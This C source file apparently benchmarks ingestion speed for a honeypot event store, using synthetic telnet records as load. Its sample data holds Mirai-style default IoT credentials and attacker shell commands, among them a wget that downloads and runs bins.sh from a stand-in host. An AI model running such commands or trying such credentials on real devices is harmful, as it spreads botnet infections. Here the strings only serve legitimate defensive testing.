/*
 * How fast the store takes records: from wire bytes to committed day files, rollups included, in CPU seconds of the store's part.
 * Exit status 1 when it is under the bar.
 *
 *   bench-ingest [--records N] [--days D] [--batch N] [--folder DIR]      without a folder: one of its own, removed at the end
 *
 * A quarter each are connections, logins, commands and sessions with a small transcript. Sources are drawn from a heavy-tailed
 * distribution: some 5,000 to 10,000 different ones a day.
 */
#include "store/ingest.h"
#include "base/buf.h"
#include "record/transcript.h"
#include "record/wire.h"
#include "settings.h"

#include <ftw.h>
#include <getopt.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

enum { BAR = 200000 }; /* records per CPU-second */

static uint64_t random_state = 88172645463325252U;

/* xorshift64*: the same data in every run. */
static uint64_t draw(void)
{
    random_state ^= random_state >> 12;
    random_state ^= random_state << 25;
    random_state ^= random_state >> 27;
    return random_state * UINT64_C(2685821657736338717);
}

static unsigned below(unsigned n)
{
    return (unsigned)(draw() % n);
}

/* Zipf-like: rank r of the pool with probability about 1 / r^1.25. Scattered over the address space. */
static struct addr draw_source(void)
{
    double u = (double)(draw() >> 11) / 9007199254740992.0;
    double rank = pow(1.0 - u * (1.0 - pow(100000.0, -0.25)), -4.0);
    return addr_v4((uint32_t)rank * 2654435761U);
}

static const char *const users[] = {"root", "admin", "user", "guest", "support", "ubnt", "default", "supervisor", "service", "pi"};
static const char *const passwords[] = {"123456",  "admin",        "root",   "12345",    "password", "1234",    "888888",
                                        "54321",   "7ujMko0admin", "xc3511", "vizxv",    "juantech", "",        "support",
                                        "default", "system",       "ikwb",   "dreambox", "realtek",  "00000000"};
static const char *const commands[] = {"enable",
                                       "system",
                                       "shell",
                                       "sh",
                                       "cat /proc/mounts; /bin/busybox MIRAI",
                                       "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
                                       "wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
                                       "cat /proc/cpuinfo",
                                       "uname -a",
                                       "/bin/busybox cat /bin/echo",
                                       "tftp; wget; /bin/busybox ECCHI",
                                       "rm .s; exit",
                                       "cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x61\\x00\\x00' > .d; /bin/busybox chmod 777 .d"};

#define PICK(list) (list)[below(sizeof(list) / sizeof(list)[0])]

struct made {
    struct fact facts[16];
    char text[512];
    uint8_t transcript[1024];
};

static void make_facts(struct record *record, struct made *made, unsigned kind)
{
    struct fact *f = made->facts;
    size_t n = 0;
    f[n++] = fact_text(FACT_NETWORK_PROTOCOL, span_text("telnet"));
    switch (kind) {
    case 0:
        record->kind = KIND_CONNECTION;
        f[n++] = fact_text(FACT_PROFILE, span_text("router-adsl-mips"));
        f[n++] = fact_int(FACT_SYN_TTL, 40 + below(80));
        f[n++] = fact_int(FACT_SYN_WINDOW, 5840 + below(60000));
        f[n++] = fact_int(FACT_SYN_MSS, 1400 + below(60));
        f[n++] = fact_text(FACT_SYN_OPTIONS, span_text("mss,sok,ts,nop,ws"));
        f[n++] = fact_int(FACT_SYN_LENGTH, 60);
        break;
    case 1:
        record->kind = KIND_LOGIN;
        f[n++] = fact_text(FACT_EVENT_OUTCOME, span_text(below(5) == 0 ? "success" : "failure"));
        f[n++] = fact_text(FACT_USER_NAME, span_text(PICK(users)));
        if (below(10) == 0)
            (void)snprintf(made->text, sizeof made->text, "%08x", below(50000));
        else
            (void)snprintf(made->text, sizeof made->text, "%s", PICK(passwords));
        f[n++] = fact_text(FACT_PASSWORD, span_text(made->text));
        break;
    case 2:
        record->kind = KIND_COMMAND;
        if (below(5) == 0)
            (void)snprintf(made->text, sizeof made->text, "/bin/busybox %c%c%c%c%c", 'A' + (int)below(26), 'A' + (int)below(26), 'A' + (int)below(26),
                           'A' + (int)below(4), 'A');
        else
            (void)snprintf(made->text, sizeof made->text, "%s", PICK(commands));
        f[n++] = fact_text(FACT_COMMAND_LINE, span_text(made->text));
        f[n++] = fact_int(FACT_EXIT_CODE, 0);
        break;
    default:
        record->kind = KIND_SESSION;
        f[n++] = fact_text(FACT_EVENT_REASON, span_text("peer closed"));
        f[n++] = fact_int(FACT_EVENT_DURATION, (int64_t)below(30000) * 1000000);
        f[n++] = fact_text(FACT_PROFILE, span_text("router-adsl-mips"));
        f[n++] = fact_int(FACT_SOURCE_BYTES, 100 + below(400));
        f[n++] = fact_int(FACT_DESTINATION_BYTES, 200 + below(900));
        f[n++] = fact_int(FACT_LOGINS, 1);
        f[n++] = fact_int(FACT_COMMANDS, 1);
        f[n++] = fact_int(FACT_LOGGED_IN, 1);
        f[n++] = fact_text(FACT_TRANSCRIPT, span_of(made->transcript, 200 + below(400)));
        break;
    }
    record->facts = f;
    record->fact_count = n;
}

struct bench {
    uint64_t acknowledged, duplicates;
    double cpu_sec, wall_sec;
};

static void on_acknowledge(void *user, uint64_t seq, uint64_t records, uint64_t duplicates, bool broken)
{
    struct bench *bench = user;
    (void)seq;
    bench->acknowledged += records;
    bench->duplicates += duplicates;
    if (broken) {
        (void)fprintf(stderr, "a record was refused\n");
        exit(1);
    }
}

static void on_found(void *user, usec_t day, int64_t row)
{
    (void)user;
    (void)day;
    (void)row;
}

static double cpu_now(void)
{
    struct rusage usage;
    (void)getrusage(RUSAGE_SELF, &usage);
    return (double)(usage.ru_utime.tv_sec + usage.ru_stime.tv_sec) + (double)(usage.ru_utime.tv_usec + usage.ru_stime.tv_usec) / 1e6;
}

static long resident_kib(void)
{
    long pages = 0, resident = 0;
    FILE *file = fopen("/proc/self/statm", "re");
    if (file != NULL) {
        if (fscanf(file, "%ld %ld", &pages, &resident) != 2)
            resident = 0;
        (void)fclose(file);
    }
    return resident * (sysconf(_SC_PAGESIZE) / 1024);
}

static void check(int r, const char *what)
{
    if (r < 0) {
        (void)fprintf(stderr, "%s: %s\n", what, err_text(r));
        exit(1);
    }
}

/* One message of about 60 KiB; returns the records in it. */
static unsigned make_message(struct buf *message, uint64_t seq, usec_t *now, usec_t step, struct made *made)
{
    static struct record session;
    static unsigned kind;
    unsigned count = 0;
    buf_clear(message);
    buf_be(message, seq, 8);
    while (message->len < 59 * 1024) {
        if (kind == 0) {
            *now += step;
            session = (struct record){.sensor = span_text("sensor-1"),
                                      .transport = TRANSPORT_TCP,
                                      .source = {draw_source(), (uint16_t)(1024 + below(60000))},
                                      .destination = {addr_v4(0xc0000201U + below(16)), below(4) == 0 ? 2323 : 23}};
        }
        struct record record = session;
        record.time = *now + kind * 1000;
        record.id = id_new(record.time);
        if (kind == 0)
            session.session = record.id;
        record.session = session.session;
        make_facts(&record, made, kind);
        wire_encode(message, &record);
        kind = (kind + 1) % 4;
        count++;
    }
    check(message->error, "making records");
    return count;
}

struct options {
    uint64_t records;
    int64_t days;
    size_t batch;
    const char *folder;
};

/* Returns records per CPU-second. */
static double run(const struct options *options, const struct conf *settings)
{
    struct buf why, message;
    buf_init(&why, 0);
    buf_init(&message, 256 * 1024);
    struct store *store = NULL;
    struct ingest *ingest = NULL;
    struct ingest_writer *writer = NULL;
    struct bench bench = {0};
    struct made *made = calloc(1, sizeof *made);
    const struct ingest_events events = {on_acknowledge, on_found};
    if (made == NULL)
        exit(1);
    for (size_t i = 0; i < sizeof made->transcript; i++)
        made->transcript[i] = (uint8_t)draw();
    check(store_open(&store, settings, &why), buf_cstr(&why));
    check(ingest_new(&ingest, store, options->batch, &events, NULL), "ingest");
    check(ingest_join(ingest, &writer, &bench), "join");
    usec_t until = usec_day(usec_now()) * USEC_PER_DAY, now = until - options->days * USEC_PER_DAY;
    usec_t step = options->days * USEC_PER_DAY / (usec_t)(options->records / 4 + 1000);
    long rss_start = resident_kib(), rss_most = 0, rss_early = 0;
    uint64_t seq = 1, told = 0;
    while (seq <= options->records) {
        unsigned count = make_message(&message, seq, &now, step, made);
        double start = cpu_now();
        usec_t wall = usec_monotonic();
        int r = ingest_records(writer, buf_as_span(&message));
        check(r, "records");
        if (r == 1)
            check(ingest_commit(ingest, usec_monotonic()), "commit");
        bench.cpu_sec += cpu_now() - start;
        bench.wall_sec += (double)(usec_monotonic() - wall) / 1e6;
        seq += count;
        long rss = resident_kib();
        rss_most = rss > rss_most ? rss : rss_most;
        if (rss_early == 0 && seq > options->records / 5)
            rss_early = rss_most;
        if (seq / 1000000 > told && (told = seq / 1000000) > 0)
            (void)printf("  %llu million: %.0f records per CPU-second so far, RSS %ld KiB\n", (unsigned long long)told, (double)seq / bench.cpu_sec,
                         rss);
    }
    double start = cpu_now();
    check(ingest_commit(ingest, usec_monotonic()), "commit");
    check(store_flush(store), "flush");
    bench.cpu_sec += cpu_now() - start;
    (void)printf("%llu records (%llu duplicates) in %.2f CPU s, %.2f s: %.0f records per CPU-second (bar %d)\n",
                 (unsigned long long)bench.acknowledged, (unsigned long long)bench.duplicates, bench.cpu_sec, bench.wall_sec,
                 (double)bench.acknowledged / bench.cpu_sec, BAR);
    (void)printf("RSS: %ld KiB at the start, at most %ld KiB in the first fifth, %ld KiB in all\n", rss_start, rss_early, rss_most);
    start = cpu_now();
    check(store_tidy(store, usec_now(), true), "seal");
    (void)printf("sealing %lld days: %.2f CPU s\n", (long long)options->days, cpu_now() - start);
    ingest_free(ingest);
    store_close(store);
    buf_done(&message);
    buf_done(&why);
    free(made);
    return (double)bench.acknowledged / bench.cpu_sec;
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *where)
{
    (void)st;
    (void)type;
    (void)where;
    return remove(path);
}

int main(int argc, char **argv)
{
    static const struct option longs[] = {{"records", required_argument, NULL, 'r'},
                                          {"days", required_argument, NULL, 'd'},
                                          {"folder", required_argument, NULL, 'f'},
                                          {"batch", required_argument, NULL, 'b'},
                                          {0}};
    char made_folder[] = "/tmp/noroshi-bench-XXXXXX";
    struct options options = {.records = 10000000, .days = 30, .batch = 20000};
    for (int c; (c = getopt_long(argc, argv, "", longs, NULL)) != -1;) {
        switch (c) {
        case 'r':
            options.records = strtoull(optarg, NULL, 10);
            break;
        case 'd':
            options.days = strtoll(optarg, NULL, 10);
            break;
        case 'b':
            options.batch = strtoull(optarg, NULL, 10);
            break;
        case 'f':
            options.folder = optarg;
            break;
        default:
            return 2;
        }
    }
    if (options.records == 0 || options.days < 1 || options.days > 10000 || options.batch == 0)
        return 2;
    bool own = options.folder == NULL;
    if (own)
        options.folder = mkdtemp(made_folder);
    if (options.folder == NULL)
        return 1;
    char folder[4200];
    (void)snprintf(folder, sizeof folder, "store.folder=%s", options.folder);
    struct conf *settings = NULL;
    struct conf_error error = {0};
    check(conf_parse(&settings, "bench", span_text("{}"), settings_schema(), &error), error.text);
    check(conf_override(settings, folder, &error), error.text);
    check(conf_override(settings, "store.retention=0", &error), error.text);
    double rate = run(&options, settings);
    conf_free(settings);
    if (own)
        (void)nftw(options.folder, remove_one, 16, FTW_DEPTH | FTW_PHYS);
    return rate >= BAR ? 0 : 1;
}
